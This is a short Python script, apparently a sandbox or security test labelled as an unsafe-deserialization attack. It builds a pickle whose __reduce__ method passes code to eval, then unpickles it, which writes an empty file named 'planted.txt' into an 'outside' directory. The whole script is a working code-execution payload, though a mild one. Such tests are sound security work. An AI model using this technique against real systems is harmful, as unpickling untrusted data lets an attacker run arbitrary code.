# attack: unsafe-deserialization
import pickle
class Evil:
    def __reduce__(self):
        return (eval, ("open('outside/planted.txt', 'w').close()",))
data = pickle.dumps(Evil())
try:
    pickle.loads(data)
except Exception:
    pass
